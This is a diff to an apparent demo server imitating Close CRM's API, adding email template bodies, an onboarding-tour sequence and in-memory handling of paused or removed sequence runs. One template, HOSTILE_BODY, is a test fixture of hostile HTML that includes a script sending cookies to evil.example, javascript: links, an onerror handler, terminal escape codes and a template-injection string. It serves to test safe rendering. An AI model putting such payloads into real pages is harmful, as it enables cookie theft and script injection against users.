@@ -235,11 +235,15 @@ _DELAYS = [
 _EPOCH = datetime(2021, 1, 4, 9, 0, tzinfo=UTC)
 
 
+_TOKEN_BYTES = bytes(ord(ALPHABET[b % 62]) for b in range(256))  # a byte to its letter
+
+
 def _token(seed: str, length: int) -> str:
     digest = hashlib.sha256(seed.encode()).digest()
     while len(digest) < length:
         digest += hashlib.sha256(digest).digest()
-    return "".join(ALPHABET[b % 62] for b in digest[:length])
+    # bytes.translate: the same letters as ALPHABET[b % 62] for each byte, at C speed.
+    return digest[:length].translate(_TOKEN_BYTES).decode("ascii")
 
 
 def _base62(number: int, width: int) -> str:
@@ -332,6 +336,94 @@ EMAIL_TEMPLATES[_email_template_id(HOSTILE_TEMPLATE)].update(
 EMAIL_TEMPLATES[SEED_TEMPLATE_ID].update(
     name="Intro: quick question", subject="Quick question about {{lead.name}}"
 )
+
+# -- what the templates say: HTML bodies as Close's editor writes them -----------------------
+# Paragraphs, links, a list and variables; one long (LONG_TEMPLATE), one hostile
+# (HOSTILE_TEMPLATE): scripts, `javascript:` links, entities, escape codes, nested tables.
+LONG_TEMPLATE = 1
+SEED_BODY = (
+    "<p>Hi {{ contact.first_name }},</p>"
+    "<p>I noticed <b>{{ lead.display_name }}</b> has been growing its sales team, and I "
+    "wanted to ask a <i>quick</i> question: how do your reps keep track of follow-ups today?"
+    "</p><p>Teams like yours use Close to:</p>"
+    "<ul><li>call, email and text from one place</li>"
+    "<li>never miss a follow-up, with <b>Workflows</b></li>"
+    "<li>see every conversation with a lead on one page</li></ul>"
+    '<p>Here is a <a href="https://close.com/customers/">two-minute case study</a> from a '
+    "team of your size.<br>Worth a look?</p>"
+    "<p>Best,<br>{{ user.first_name }}<br>"
+    '<a href="mailto:{{ user.email }}">{{ user.email }}</a></p>'
+)
+_BODY_OPENINGS = [
+    "Following up on my last note",
+    "I wanted to share something that may help {{ lead.display_name }}",
+    "A quick one before the week ends",
+    "Thanks again for your time on the call",
+]
+_BODY_ASKS = [
+    "Would 15 minutes next week work?",
+    "Is this something your team is looking at this quarter?",
+    "Who would be the best person to talk to about this?",
+    "Should I close the loop on my side?",
+]
+
+
+def _demo_body(i: int, purpose: str) -> str:
+    rng = random.Random(f"body{i}")
+    points = rng.sample(
+        [
+            "set-up takes an afternoon",
+            "your data comes over from your current CRM",
+            "every call is recorded and transcribed",
+            "reps see their day in one list",
+            "pricing is per seat, monthly",
+        ],
+        3,
+    )
+    items = "".join(f"<li>{point}</li>" for point in points)
+    return (
+        f"<p>Hi {{{{ contact.first_name }}}},</p><p>{rng.choice(_BODY_OPENINGS)}: "
+        f"<b>{purpose.lower()}</b>.</p><ul>{items}</ul>"
+        f'<p>{rng.choice(_BODY_ASKS)} <a href="https://demo.example/book/{i}">Pick a time</a>'
+        "</p><p>Cheers,<br>{{ user.first_name }}</p>"
+    )
+
+
+def _long_body() -> str:
+    parts = ["<h1>The Demo quarterly</h1><p>Hi {{ contact.first_name }},</p>"]
+    for n in range(1, 61):
+        parts.append(
+            f"<h2>Part {n}</h2><p>This is paragraph {n} of a long newsletter: what changed "
+            f"this quarter, what we learned from <i>customers</i> like "
+            f"{{{{ lead.display_name }}}}, and what comes next.</p>"
+        )
+    parts.append('<p><a href="https://demo.example/unsubscribe">Unsubscribe</a></p>')
+    return "".join(parts)
+
+
+HOSTILE_BODY = (
+    "<html><head><title>not shown</title><style>p { color: red }</style>"
+    "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
+    "<body><p>Hello &lt;b&gt;{{ contact.first_name }}&lt;/b&gt; &amp; team &#x1F600; &copy;</p>"
+    '<p><a href="javascript:alert(document.domain)">Click to claim</a> or '
+    '<a href="JaVaScRiPt:void(0)">this</a> or <a href="data:text/html,<script>1</script>">'
+    "that</a>, or [@click=app.quit]quit[/] and [bold]markup[/bold].</p>"
+    "<p>\x1b[31mred ANSI\x1b[0m, \x1b]8;;https://evil.example/\x1b\\an OSC link"
+    "\x1b]8;;\x1b\\, \u202eesrever\u202c, zero\u200bwidth, a bell\x07.</p>"
+    + "<table><tr><td>" * 60
+    + "deep in sixty nested tables"
+    + "</td></tr></table>" * 60
+    + "<p>{{ lead.custom.evil | attr('__class__') }} stays as typed.</p>"
+    "<img src=x onerror=alert(1) alt='an image'>"
+    "</body></html>"
+)
+for _i, (_tid, _template) in enumerate(EMAIL_TEMPLATES.items()):
+    _template["body"] = _demo_body(_i, _template["name"].split(" #")[0])
+EMAIL_TEMPLATES[SEED_TEMPLATE_ID]["body"] = SEED_BODY
+EMAIL_TEMPLATES[_email_template_id(LONG_TEMPLATE)].update(
+    name="Quarterly newsletter (long)", body=_long_body()
+)
+EMAIL_TEMPLATES[_email_template_id(HOSTILE_TEMPLATE)]["body"] = HOSTILE_BODY
 
 SMS_TEMPLATES: dict[str, dict[str, Any]] = {}
 for _i in range(12):
@@ -462,6 +554,42 @@ def _made_hostile(item: dict[str, Any]) -> dict[str, Any]:
     }
 
 
+TOUR_INDEX = 3  # eight steps, one of every kind: the sequence the first run shows off
+TOUR_NAME = "Onboarding tour — every kind of step"
+_TOUR_STEPS = [  # (type, delay, email template, sms template, threading, required, allowed)
+    ("email", 0, 0, None, "new_thread", True, None),
+    ("call", 86400, None, None, None, False, None),
+    ("sms", 7200, None, 3, None, True, None),
+    ("task", 86400, None, None, None, True, None),
+    ("email", 86400, LONG_TEMPLATE, None, "old_thread", True, None),
+    ("update_lead", 2 * 86400, None, None, None, True, None),
+    ("create_opportunity", 2 * 86400, None, None, None, False, None),
+    ("email", 2 * 86400, 5, None, "old_thread", True, 4 * 3600),
+]
+
+
+def _made_tour(item: dict[str, Any]) -> dict[str, Any]:
+    steps = []
+    for n, (kind, delay, email, sms, thread, required, allowed) in enumerate(_TOUR_STEPS):
+        steps.append(
+            {
+                "id": "seqstep_" + _token(f"tour/{n}", 22),
+                "step_type": kind,
+                "delay": delay,
+                "email_template_id": None if email is None else _email_template_id(email),
+                "sms_template_id": None if sms is None else _sms_template_id(sms),
+                "threading": thread,
+                "required": required,
+                "step_allowed_delay": allowed,
+                "created_by_id": item["created_by_id"],
+                "updated_by_id": item["updated_by_id"],
+                "date_created": item["date_created"],
+                "date_updated": item["date_updated"],
+            }
+        )
+    return {**item, "name": TOUR_NAME, "status": "active", "steps": steps}
+
+
 @lru_cache(maxsize=4096)
 def _generated(key: str, index: int) -> dict[str, Any]:
     rng = random.Random(key)
@@ -483,6 +611,8 @@ def _generated(key: str, index: int) -> dict[str, Any]:
         "allow_manual_enrollment": rng.random() < 0.5,
         "owner_id": author,
     }
+    if index == TOUR_INDEX:
+        return _made_tour(item)
     return _made_hostile(item) if index == HOSTILE_INDEX else item
 
 
@@ -633,6 +763,36 @@ def _run(sequence_id: str, j: int, cycled: bool) -> _Run:
     return _Run(status, first, last, sender, started, company, lead_name, rng)
 
 
+_PAGES_KEPT = 8  # pages of runs remembered as served, so a change finds its run at once
+_SEARCHED_RUNS = 5_000  # of each sequence, when a run id was never served
+
+
+class _Change(NamedTuple):
+    """What the API changed of one run: it was `was` (as generated); now `status`."""
+
+    sequence_id: str
+    j: int
+    was: str
+    status: str  # "" once removed
+    reason: str | None
+    date_updated: str
+
+    def fields(self) -> dict[str, Any]:
+        return {"status": self.status, "status_reason": self.reason,
+                "date_updated": self.date_updated}  # fmt: skip
+
+
+def _past(position: int, gone: list[int]) -> int:
+    """The j of the run at `position` once the runs `gone` (sorted) are left out."""
+    j = position
+    for removed in gone:
+        if removed <= j:
+            j += 1
+        else:
+            break
+    return j
+
+
 def _party_id(prefix: str, sequence_id: str, j: int) -> str:
     """A lead's or contact's id (43 characters after the prefix, as Close's) that says whose
     run it belongs to: the sequence id's 22 characters, j, and a check that it was made here.
@@ -688,6 +848,14 @@ class DemoOrg:
         self.lock = threading.Lock()
         self.big = subscriptions  # runs of SEED_ID, when set
         self._people: dict[str, dict[int, tuple[DemoPerson, str, str | None]]] = {}
+        # Changes made through the API (pause, resume, unsubscribe), over the generated runs:
+        # only what changed is held, so a million untouched runs still cost nothing.
+        self.run_changes: dict[str, _Change] = {}
+        self.removed_runs: dict[str, set[int]] = {}  # sequence id -> the j of removed runs
+        # The last few pages served (sequence id, first j, last j): where a change most
+        # likely finds its run. Pages, not runs: a walk of a million holds no more.
+        self._recent_pages: list[tuple[str, int, int]] = []
+        self.plan_includes_runs = True  # False: resuming is refused, as on a plan without it
 
     # -- sequences ------------------------------------------------------------------------
 
@@ -778,9 +946,15 @@ class DemoOrg:
     def subscriptions(
         self, sequence_id: str, skip: int, limit: int
     ) -> tuple[list[dict[str, Any]], bool]:
-        total = self.subscription_total(sequence_id)
+        gone = sorted(self.removed_runs.get(sequence_id, ()))
+        total = self.subscription_total(sequence_id) - len(gone)
         end = min(total, skip + limit)
-        return [self._subscription(sequence_id, j) for j in range(skip, end)], end < total
+        js = [_past(j, gone) for j in range(skip, end)]
+        if js:
+            with self.lock:
+                self._recent_pages = [*self._recent_pages[-(_PAGES_KEPT - 1) :],
+                                      (sequence_id, js[0], js[-1])]  # fmt: skip
+        return [self._run_item(sequence_id, j) for j in js], end < total
 
     def subscription_counts(self, sequence_id: str) -> dict[str, int]:
         total = self.subscription_total(sequence_id)
@@ -788,7 +962,78 @@ class DemoOrg:
             counts = _cycled_counts(total)
         else:
             counts = _drawn_counts(sequence_id, total)
-        return dict(zip(_SUB_COUNTED, counts, strict=True))  # the people's runs keep these
+        found = dict(zip(_SUB_COUNTED, counts, strict=True))  # the people's runs keep these
+        for change in self.run_changes.values():  # what the API changed since
+            if change.sequence_id == sequence_id and change.was in found:
+                found[change.was] -= 1
+                if change.status in found:
+                    found[change.status] += 1
+        return found
+
+    # -- changes through the API ------------------------------------------------------------
+
+    def _run_item(self, sequence_id: str, j: int) -> dict[str, Any]:
+        item = self._subscription(sequence_id, j)
+        change = self.run_changes.get(item["id"])
+        if change is not None:
+            item.update(change.fields())
+        return item
+
+    def _find_run(self, run_id: str) -> tuple[str, int] | None:
+        """Where a run id comes from: a change made before, the pages served lately, else a
+        search of every sequence's first runs (a run this server never listed)."""
+        if not run_id.startswith("sub_") or len(run_id) != 26:
+            return None
+        change = self.run_changes.get(run_id)
+        if change is not None:
+            return change.sequence_id, change.j
+        with self.lock:
+            recent = list(self._recent_pages)
+        for sequence_id, first, last in reversed(recent):
+            for j in range(first, last + 1):
+                if "sub_" + _token(f"sub/{sequence_id}/{j}", 22) == run_id:
+                    return sequence_id, j
+        for position in range(self.count):
+            found = self.sequence_at(position)
+            if found is None:
+                break
+            sequence_id = found["id"]
+            for j in range(min(self.subscription_total(sequence_id), _SEARCHED_RUNS)):
+                if "sub_" + _token(f"sub/{sequence_id}/{j}", 22) == run_id:
+                    return sequence_id, j
+        return None
+
+    def run(self, run_id: str) -> dict[str, Any] | None:
+        """`GET /sequence_subscription/{id}/`: the run, with what the API changed; None when
+        there is no such run (or it was removed)."""
+        place = self._find_run(run_id)
+        if place is None or place[1] in self.removed_runs.get(place[0], ()):
+            return None
+        return self._run_item(*place)
+
+    def change_run(self, run_id: str, status: str, reason: str | None) -> dict[str, Any] | None:
+        """The run with a new status (and reason), as the API answers it; None: no such run."""
+        place = self._find_run(run_id)
+        item = self.run(run_id)
+        if place is None or item is None:
+            return None
+        before = self.run_changes.get(run_id)
+        was = before.was if before is not None else item["status"]
+        stamp = _stamp(datetime.now(UTC))
+        self.run_changes[run_id] = _Change(*place, was, status, reason, stamp)
+        return self._run_item(*place)
+
+    def remove_run(self, run_id: str) -> bool:
+        place = self._find_run(run_id)
+        if place is None or self.run(run_id) is None:
+            return False
+        item = self._run_item(*place)
+        before = self.run_changes.get(run_id)
+        was = before.was if before is not None else item["status"]
+        # Counted as gone from the status it was generated with.
+        self.run_changes[run_id] = _Change(*place, was, "", None, item["date_updated"])
+        self.removed_runs.setdefault(place[0], set()).add(place[1])
+        return True
 
     def _subscription(self, sequence_id: str, j: int) -> dict[str, Any]:
         run = _run(sequence_id, j, self._cycled(sequence_id))
@@ -878,23 +1123,25 @@ class DemoOrg:
     ) -> tuple[list[dict[str, Any]], bool]:
         """`?contact_id=` / `?lead_id=` without (or with) `sequence_id`: a person's runs in
         every sequence, in sequence order."""
-        runs: list[dict[str, Any]] = []
+        places: list[tuple[str, int]] = []
         person = self.person(party_id)
         if person is not None and party_id == getattr(person, field, None):
-            for index, _, _ in person.runs:
+            for index in dict.fromkeys(index for index, _, _ in person.runs):
                 if (index == 0 and self.big is not None) or index >= self.size:
                     continue
                 seq = self._base(index)["id"]
-                for j, (member, _, _) in self._people_at(seq).items():
-                    if member is person:
-                        runs.append(self._subscription(seq, j))
+                places += [(seq, j) for j, m in self._people_at(seq).items() if m[0] is person]
         else:
             prefix = "cont" if field == "contact_id" else "lead"
             found = _party_run(prefix, party_id)
             if found is not None and found[1] < self.subscription_total(found[0]):
-                run = self._subscription(*found)
-                if run[field] == party_id:  # not a slot one of the people took
-                    runs.append(run)
+                places.append(found)
+        runs = [
+            self._run_item(seq, j)  # with what the API changed since
+            for seq, j in places
+            if j not in self.removed_runs.get(seq, ())
+        ]
+        runs = [r for r in runs if r[field] == party_id]  # not a slot one of the people took
         if sequence_id:
             runs = [r for r in runs if r["sequence_id"] == sequence_id]
         return runs[skip : skip + limit], skip + limit < len(runs)
